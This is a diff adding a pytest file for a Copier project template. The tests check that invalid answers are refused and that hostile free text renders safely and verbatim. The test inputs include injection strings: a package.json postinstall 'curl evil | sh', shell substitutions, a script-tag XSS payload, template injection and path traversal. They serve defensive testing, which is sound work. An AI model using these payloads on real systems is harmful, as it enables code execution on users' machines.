@@ -1,0 +1,279 @@
+"""Hostile input: bad answers are refused before anything is written; free text is escaped.
+
+1. Every bad value of every validated question, given with ``--data`` on the Copier CLI:
+   exit code 1, the last line of stderr says what is allowed, and the destination is not
+   created (or, when it existed, is left exactly as it was). tests/test_questions.py has a
+   first handful of these; this file covers the rest (the same values at the prompt are in
+   tests/test_interactive.py).
+2. Free text (``description``, the only unvalidated text answer) full of quotes,
+   backslashes, newlines, ``{{ }}``, ``{% %}``, ``${}``, backticks, ``</script>``, control
+   characters and non-ASCII, rendered into both targets: every TOML/JSON/YAML/Python file
+   still parses and carries the text verbatim, and a file that is not the same as with a
+   plain description must be one of the files known to carry it.
+
+The runs are independent CLI processes, started side by side from a plain (non-git) copy of
+the template so that they stay cheap; each parametrized test then checks one outcome.
+"""
+from __future__ import annotations
+
+import ast
+import json
+import tomllib
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import pytest
+import yaml
+from conftest import ACCOUNT_ID, BASE_ANSWERS
+from copier import run_copy
+from template_repo import copier, data_args, template_dir
+
+G60 = "g" * 60  # + "-development"/"-staging" is over 64 characters
+
+# (id, answers given with --data on top of a valid project_name, what stderr's last line says)
+BAD_DATA = [
+    # project_name
+    ("project_name-empty", {"project_name": ""},
+     'project_name must start with a lowercase letter, use only lowercase letters, digits and '
+     'single hyphens, not end with a hyphen, and be at most 54 characters (got "")'),
+    ("project_name-double-hyphen", {"project_name": "my--service"}, '(got "my--service")'),
+    ("project_name-leading-hyphen", {"project_name": "-svc"}, '(got "-svc")'),
+    ("project_name-space", {"project_name": "my service"}, '(got "my service")'),
+    ("project_name-dot", {"project_name": "my.service"}, '(got "my.service")'),
+    ("project_name-non-ascii", {"project_name": "café"}, '(got "caf\\u00e9")'),
+    ("project_name-trailing-newline", {"project_name": "demo-svc\n"}, '(got "demo-svc\\n")'),
+    ("project_name-injection", {"project_name": 'x" = 1\n[evil]'},
+     '(got "x\\" = 1\\n[evil]")'),
+    ("project_name-jinja", {"project_name": "{{ 7*7 }}"}, '(got "{{ 7*7 }}")'),
+    ("project_name-keyword-class", {"project_name": "class"},
+     'project_name "class" is a Python keyword and cannot name a package'),
+    ("project_name-keyword-with-hyphen", {"project_name": "async"},
+     'project_name "async" is a Python keyword'),
+    # account_id
+    ("account_id-31-hex", {"account_id": ACCOUNT_ID[:-1]},
+     'account_id must be 32 lowercase hex characters (Dashboard > Overview > Account ID), or '
+     f'empty to read CLOUDFLARE_ACCOUNT_ID at run time (got "{ACCOUNT_ID[:-1]}")'),
+    ("account_id-33-hex", {"account_id": ACCOUNT_ID + "0"}, f'(got "{ACCOUNT_ID}0")'),
+    ("account_id-not-hex", {"account_id": "g" * 32}, f'(got "{"g" * 32}")'),
+    ("account_id-spaces", {"account_id": f" {ACCOUNT_ID} "}, f'(got " {ACCOUNT_ID} ")'),
+    ("account_id-trailing-newline", {"account_id": ACCOUNT_ID + "\n"},
+     f'(got "{ACCOUNT_ID}\\n")'),
+    # gateway_id
+    ("gateway_id-empty", {"gateway_id": ""},
+     'gateway_id must be 1 to 64 lowercase letters, digits and hyphens, not starting or ending '
+     'with a hyphen (got "")'),
+    ("gateway_id-trailing-hyphen", {"gateway_id": "prod-"}, '(got "prod-")'),
+    ("gateway_id-uppercase", {"gateway_id": "Prod"}, '(got "Prod")'),
+    ("gateway_id-space", {"gateway_id": "prod api"}, '(got "prod api")'),
+    ("gateway_id-slash", {"gateway_id": "prod/../x"}, '(got "prod/../x")'),
+    ("gateway_id-non-ascii", {"gateway_id": "prüd"}, '(got "pr\\u00fcd")'),
+    ("gateway_id-trailing-newline", {"gateway_id": "prod\n"}, '(got "prod\\n")'),
+    # gateway_authentication with a keyless mode
+    ("gateway_authentication-unified-billing", {"gateway_authentication": False},
+     "unified-billing needs an authenticated gateway: set gateway_authentication=true, or use "
+     "auth_mode=request-headers"),
+    ("gateway_authentication-byok-explicit", {"auth_mode": "byok", "gateway_authentication": "no"},
+     "byok needs an authenticated gateway"),
+    # environments
+    ("environments-empty", {"environments": []}, "choose at least one environment"),
+    ("environments-unknown", {"environments": ["prod"]},
+     "Invalid choice for 'environments': 'prod' is not in ['development', 'staging', "
+     "'production']"),
+    ("environments-suffix-too-long", {"gateway_id": G60, "environments": ["staging", "production"]},
+     f'gateway_id "{G60}" is too long to add an environment suffix: the derived gateway ids must '
+     "stay within 64 characters"),
+    ("environments-not-confirmed",
+     {"environments": ["staging", "production"], "gateway_ids_confirmed": False},
+     "change gateway_id or environments to get the gateway ids you want"),
+    # choices outside the list
+    ("language-unknown", {"language": "rust"},
+     "Invalid choice for 'language': 'rust' is not in ['typescript-worker', 'python-app']"),
+    ("language-label-not-value", {"language": "Python app (openai SDK, CLI + library)"},
+     "Invalid choice for 'language'"),
+    ("auth_mode-unknown", {"auth_mode": "free"},
+     "Invalid choice for 'auth_mode': 'free' is not in ['unified-billing', 'byok', "
+     "'request-headers']"),
+    ("auth_mode-wrong-case", {"auth_mode": "BYOK"}, "Invalid choice for 'auth_mode': 'BYOK'"),
+    ("providers-unknown", {"providers": ["openai", "mistral"]},
+     "Invalid choice for 'providers': 'mistral' is not in ['openai', 'anthropic', "
+     "'google-ai-studio', 'workers-ai', 'compat']"),
+    ("rate_limiting_technique-unknown", {"rate_limiting_technique": "leaky"},
+     "Invalid choice for 'rate_limiting_technique': 'leaky' is not in ['fixed', 'sliding']"),
+    # integers: negative, then not integers at all
+    ("cache_ttl-negative", {"cache_ttl": -1}, "cache_ttl must be 0 or more seconds"),
+    ("rate_limiting_interval-negative", {"rate_limiting_interval": -60},
+     "rate_limiting_interval must be 0 or more seconds"),
+    ("rate_limiting_limit-negative", {"rate_limiting_limit": -1},
+     "rate_limiting_limit must be 0 or more requests"),
+    ("cache_ttl-word", {"cache_ttl": "abc"}, "invalid literal for int() with base 10: 'abc'"),
+    ("cache_ttl-float", {"cache_ttl": "1.5"}, "invalid literal for int() with base 10: '1.5'"),
+    ("rate_limiting_interval-word", {"rate_limiting_interval": "ten"},
+     "invalid literal for int() with base 10: 'ten'"),
+    ("rate_limiting_limit-empty", {"rate_limiting_limit": ""},
+     "invalid literal for int() with base 10: ''"),
+]
+
+# Free text that has broken templates somewhere; every one must render verbatim.
+HOSTILE_DESCRIPTIONS = {
+    "quotes": "He said \"ship it\" and left: it's Bob's 'gateway'",
+    "backslashes": "C:\\new\\table \\\\server \\u0041 \\x41 \\\" trailing\\",
+    "newlines-and-tab": "first line\nsecond line\r\nthird\tcolumn",
+    "jinja": "{{ project_name }} {{ 7 * 7 }} {% if true %}x{% endif %} {% raw %} {# c #} {{ {%",
+    "js-and-shell": "${process.env.CF_AIG_TOKEN} $(whoami) `id` $HOME ```ts\nconst x = `y`;\n```",
+    "script-tag": "</script><script>alert(1)</script><!--",
+    "non-ascii": "Café naïve — “curly” ‘quotes’ 中文描述：通过网关调用模型 🚀 👩‍💻 🇫🇷 ❤️ "
+                 "שלום \u202eoverride\u202c",
+    "separators-and-controls": "x\u2028y\u2029z bell\x07 esc\x1b[31m del\x7f nbsp\u00a0",
+    "yaml-syntax": "- item: value # comment & *alias !!python/object ---",
+    "yaml-scalar": "null",
+    "toml-syntax": '""" \'\'\' [table] key = "v" #',
+    "json-injection": '", "scripts": {"postinstall": "curl evil | sh"}, "x": "',
+    "padded": "  padded  ",
+    "empty": "",
+    "long": "x" * 3000 + " end",
+}
+HOSTILE_DESCRIPTIONS["everything"] = " | ".join(HOSTILE_DESCRIPTIONS.values())
+
+PLAIN_DESCRIPTION = "A plain description"
+TARGETS = ("python-app", "typescript-worker")
+# Files allowed to differ from a render with a plain description, and why.
+CARRIERS = {
+    "python-app": {"README.md", "pyproject.toml", ".copier-answers.yml"},
+    "typescript-worker": {"README.md", "package.json", ".copier-answers.yml"},
+}
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory) -> Path:
+    return template_dir(tmp_path_factory.mktemp("template") / "ai-gateway-starter")
+
+
+def _pool() -> ThreadPoolExecutor:
+    return ThreadPoolExecutor(max_workers=4)
+
+
+@pytest.fixture(scope="module")
+def refusals(template, tmp_path_factory) -> dict:
+    """Run every BAD_DATA case once; half into a missing folder, half into an existing one."""
+    root = tmp_path_factory.mktemp("refusals")
+
+    def attempt(index: int, case_id: str, answers: dict):
+        dst = root / case_id
+        existed = index % 2 == 1
+        if existed:
+            dst.mkdir()
+            (dst / "keep.txt").write_text("mine\n")
+        result = copier("copy", "--trust", "--defaults",
+                        *data_args({"project_name": "demo-svc", **answers}),
+                        str(template), str(dst), cwd=root)
+        return result, dst, existed
+
+    with _pool() as pool:
+        futures = {case_id: pool.submit(attempt, i, case_id, answers)
+                   for i, (case_id, answers, _) in enumerate(BAD_DATA)}
+        return {case_id: future.result() for case_id, future in futures.items()}
+
+
+@pytest.mark.parametrize(("case_id", "answers", "message"), BAD_DATA,
+                         ids=[case[0] for case in BAD_DATA])
+def test_bad_value_given_with_data_is_refused(refusals, case_id, answers, message):
+    result, dst, existed = refusals[case_id]
+
+    assert result.returncode == 1, result.stdout + result.stderr
+    last_line = result.stderr.strip().splitlines()[-1]
+    assert message in last_line
+    if existed:
+        assert sorted(p.name for p in dst.iterdir()) == ["keep.txt"]
+        assert (dst / "keep.txt").read_text() == "mine\n"
+    else:
+        assert not dst.exists()
+
+
+def test_every_validated_question_has_refusal_cases():
+    import re
+
+    copier_yml = (Path(__file__).resolve().parents[1] / "copier.yml").read_text()
+    questions = yaml.safe_load(copier_yml)
+    validated = {name for name, spec in questions.items()
+                 if isinstance(spec, dict) and (spec.get("validator") or spec.get("choices")
+                                                or spec.get("type") == "int")
+                 and spec.get("when") is not False}
+    covered = {re.split(r"-", case_id)[0] for case_id, _, _ in BAD_DATA} | {
+        # already in tests/test_questions.py, or refused through environments' validator
+        "gateway_ids_confirmed",
+    }
+    assert validated <= covered, validated - covered
+
+
+@pytest.fixture(scope="module")
+def renders(template, tmp_path_factory) -> dict:
+    """(description id or None for the plain one, language) -> rendered project.
+
+    Rendered in-process (Copier's API, the same code the CLI calls) to stay fast; the
+    "everything" text goes through the real command line, argv parsing included.
+    """
+    root = tmp_path_factory.mktemp("renders")
+    projects = {}
+    for case_id, description in [(None, PLAIN_DESCRIPTION), *HOSTILE_DESCRIPTIONS.items()]:
+        for language in TARGETS:
+            dst = root / f"{language}-{case_id or 'plain'}"
+            answers = {**BASE_ANSWERS, "language": language, "description": description}
+            if case_id == "everything":
+                result = copier("copy", "--trust", "--defaults", *data_args(answers),
+                                str(template), str(dst), cwd=root)
+                assert result.returncode == 0, result.stderr
+            else:
+                run_copy(str(template), str(dst), data=answers, defaults=True, unsafe=True,
+                         quiet=True)
+            projects[(case_id, language)] = dst
+    return projects
+
+
+def _files(root: Path) -> dict[str, bytes]:
+    return {p.relative_to(root).as_posix(): p.read_bytes()
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+@pytest.mark.parametrize("language", TARGETS)
+@pytest.mark.parametrize("case_id", sorted(HOSTILE_DESCRIPTIONS))
+def test_free_text_renders_into_files_that_parse_and_carry_it_verbatim(renders, case_id,
+                                                                        language):
+    description = HOSTILE_DESCRIPTIONS[case_id]
+    project = renders[(case_id, language)]
+    plain = _files(renders[(None, language)])
+    files = _files(project)
+
+    # The same files, and only the known carriers of the description differ.
+    assert sorted(files) == sorted(plain)
+    changed = {name for name in files if files[name] != plain[name]}
+    assert changed <= CARRIERS[language], changed - CARRIERS[language]
+
+    # Every structured file still parses.
+    parsed = 0
+    for name, data in files.items():
+        if name.endswith(".toml"):
+            tomllib.loads(data.decode("utf-8"))
+        elif name.endswith(".py"):
+            ast.parse(data.decode("utf-8"), filename=name)
+        elif name.endswith((".yml", ".yaml")):
+            yaml.safe_load(data.decode("utf-8"))
+        elif name == "package.json":
+            json.loads(data.decode("utf-8"))
+        else:
+            continue
+        parsed += 1
+    assert parsed >= (8 if language == "python-app" else 4)
+
+    # ... and carries the text verbatim, read back by each format's own parser.
+    answers = yaml.safe_load(files[".copier-answers.yml"].decode("utf-8"))
+    assert answers["description"] == description
+    readme = files["README.md"].decode("utf-8")
+    assert f"\n\n{description}\n\n" in readme
+    if language == "python-app":
+        pyproject = tomllib.loads(files["pyproject.toml"].decode("utf-8"))
+        assert pyproject["project"]["description"] == description
+    else:
+        package = json.loads(files["package.json"].decode("utf-8"))
+        assert package["description"] == description
+        assert package["name"] == BASE_ANSWERS["project_name"]
+        assert set(package["scripts"]) == set(json.loads(plain["package.json"])["scripts"])
